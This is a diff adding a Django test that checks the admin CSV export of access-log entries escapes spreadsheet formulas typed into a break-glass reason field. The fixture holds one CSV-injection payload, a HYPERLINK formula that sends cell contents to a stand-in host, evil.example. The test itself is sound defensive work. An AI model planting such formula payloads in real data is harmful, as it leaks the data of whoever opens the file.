@@ -102,3 +102,22 @@ def test_on_postgresql_the_database_itself_refuses_changes(coordinator) -> None:
         with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cursor:
             cursor.execute(sql)
     assert AccessLogEntry.objects.count() == 1
+
+
+def test_the_csv_export_keeps_typed_text_from_becoming_a_formula(rf) -> None:  # type: ignore[no-untyped-def]
+    """A break-glass reason is typed by a coordinator; in the exported CSV, opened in a spreadsheet,
+    '=HYPERLINK(...)' must be text, not a live formula."""
+    import csv
+    import io
+
+    from django.contrib.admin.sites import site
+
+    from accounts.admin import AccessLogAdmin
+    from accounts.tests.factories import AccessLogEntryFactory
+
+    AccessLogEntryFactory(reason='=HYPERLINK("http://evil.example/?"&A1,"Klicka")')
+    AccessLogEntryFactory(reason="Flyttat hit från Brunflo")
+    response = AccessLogAdmin(AccessLogEntry, site).export_csv(rf.get("/"), AccessLogEntry.objects.all())
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    reasons = sorted(row[5] for row in rows[1:])
+    assert reasons == ['\'=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "Flyttat hit från Brunflo"]
